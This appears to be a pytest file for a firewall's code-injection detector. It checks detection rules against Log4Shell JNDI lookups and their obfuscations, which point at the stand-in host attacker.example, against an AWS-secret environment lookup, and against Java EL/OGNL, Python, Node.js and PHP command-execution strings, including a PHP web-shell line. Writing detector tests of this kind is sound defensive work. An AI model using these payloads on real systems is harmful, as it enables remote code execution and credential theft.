"""Code injection detector: Log4Shell and its obfuscations, Java EL/OGNL, Python, Node.js, PHP, eval."""

from __future__ import annotations

import pytest
from family_cases import family_suite

from hullguard.firewall.detectors import code
from hullguard.firewall.detectors.base import ScanContext
from hullguard.firewall.detectors.code_log4j import find_lookup

CTX = ScanContext()


@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [
        ("${jndi:ldap://attacker.example/a}", "HG-CODE-001"),
        ("${${lower:j}ndi:ldap://attacker.example/a}", "HG-CODE-001"),
        ("${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}", "HG-CODE-001"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}ldap://attacker.example/a}", "HG-CODE-001"),
        ("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}", "HG-CODE-001"),
        ("${env:AWS_SECRET_ACCESS_KEY}", "HG-CODE-002"),
        ("${T(java.lang.Runtime).getRuntime().exec('id')}", "HG-CODE-003"),
        ("%{(#_memberAccess['allowStaticMethodAccess']=true)}", "HG-CODE-003"),
        ("__import__('os').system('id')", "HG-CODE-004"),
        ("().__class__.__base__.__subclasses__()", "HG-CODE-004"),
        ("require('child_process').exec('id')", "HG-CODE-005"),
        ("process.mainModule.require('fs')", "HG-CODE-005"),
        ("<?php system($_GET['c']); ?>", "HG-CODE-006"),
        ("phpinfo()", "HG-CODE-006"),
        ("eval(atob('YWxlcnQoMSk='))", "HG-CODE-007"),
    ],
)
def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
    found = code.scan(payload, CTX)
    assert found is not None and found.rule_id == rule_id, found


@pytest.mark.parametrize(
    ("text", "resolved"),
    [
        ("${${upper:j}ndi:x}", "${Jndi:x}"),
        ("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}", "${jNDi:ldap://x}"),
        ("prefix ${jndi:dns://x", "${jndi:dns://x"),
    ],
)
def test_log4j_lookups_resolve_like_log4j(text: str, resolved: str) -> None:
    found = find_lookup(text)
    assert found is not None and found[0] == resolved


def test_placeholders_are_not_lookups() -> None:
    assert find_lookup("https://tr.example.com/cm/p?pcid=${TA_DEVICE_ID}&x=${USER}") is None


def test_deep_nesting_is_bounded() -> None:
    text = "${" * 50_000 + "jndi:ldap://x" + "}" * 50_000
    code.scan(text, CTX)  # bounded stack: completes whatever it decides


(
    test_corpus_and_handwritten_detection_rate,
    test_handwritten_benign_values_pass,
    test_benign_query_strings_false_positive_rate,
    test_prefilter_is_a_necessary_condition,
    test_adversarial_inputs_complete,
    test_rule_catalogue_is_complete,
) = family_suite(code, "code", ["${", "${${lower:j}", "}", "${::-", "__import__(", "require(", "<?php", "eval("])
